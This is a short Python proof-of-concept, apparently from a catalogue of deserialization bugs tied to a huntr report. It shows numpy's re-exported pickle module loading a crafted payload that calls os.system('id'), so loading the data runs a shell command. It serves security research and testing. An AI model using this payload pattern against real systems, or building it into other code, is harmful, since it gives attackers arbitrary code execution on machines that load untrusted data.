# Source: https://github.com/418sec/huntr/pull/1571 (numpy.lib.npyio pickle loads)
# Family: data-is-code
# What: numpy's re-exported pickle module (np.lib.npyio.pickle) loads a reduce payload
import numpy as np

np.lib.npyio.pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
